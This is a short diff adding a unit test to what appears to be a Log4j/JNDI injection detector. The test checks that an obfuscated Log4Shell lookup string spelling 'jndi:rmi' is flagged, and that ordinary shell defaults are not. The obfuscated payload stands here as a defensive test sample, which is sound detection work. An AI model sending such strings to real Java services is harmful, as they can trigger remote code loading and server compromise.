@@ -102,3 +102,13 @@ test('JNDI analysis stays linear on long adversarial input', () => {
     assert.ok(ms < 250, `${v.slice(0, 12)}...: ${ms} ms`)
   }
 })
+
+test('issue 3: letters spelled one empty lookup each are Log4j obfuscation, even cut short', () => {
+  assert.equal(detect('${${::-j}${::-n}${::-d}${::-i}${::-r}${::-m}${::-i}://example.com')?.rule, 'log4j-obfuscation')
+  assert.ok(detect('${${::-j}${::-n}${::-d}')!.confidence >= 0.8)
+  // shell and compose defaults name a variable: not obfuscation
+  for (const ok of ['${PORT:-8080} ${HOST:-localhost} ${X:-a}', '${::-a}', '${a:-b}${c:-d}${e:-f}']) {
+    const f = detect(ok)
+    assert.ok(f === null || f.confidence < 0.8, ok)
+  }
+})
